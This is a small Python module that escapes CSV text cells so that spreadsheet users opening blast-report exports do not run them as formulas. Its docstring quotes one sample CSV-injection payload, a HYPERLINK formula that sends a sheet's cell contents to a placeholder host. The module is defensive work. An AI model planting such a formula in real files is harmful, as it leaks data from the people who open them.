"""Text cells of a CSV that people open in a spreadsheet, written so that none runs as a formula.

A report's CSV carries text the operator wrote (a blast's id, its safety reason) to the Town,
whose staff open it in a spreadsheet. A cell beginning with ``=``, ``+``, ``-`` or ``@`` (or a
tab or a line break, which some spreadsheets skip before one) is read there as a formula:
``=HYPERLINK("https://x/?"&B2, "B-7")`` sends the sheet's cells away on a click (CSV injection,
CWE-1236). Such a cell is written with a leading apostrophe, the spreadsheets' own mark for
"text": the value stays readable and runs nothing. A plain number (``-3.5``) is left as it is.
"""

from __future__ import annotations

import re

FORMULA_START = frozenset("=+-@\t\r\n")
_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def inert(cell: str) -> str:
    """``cell`` as a spreadsheet takes it for text, never a formula."""
    if cell[:1] in FORMULA_START and not _NUMBER.fullmatch(cell):
        return "'" + cell
    return cell
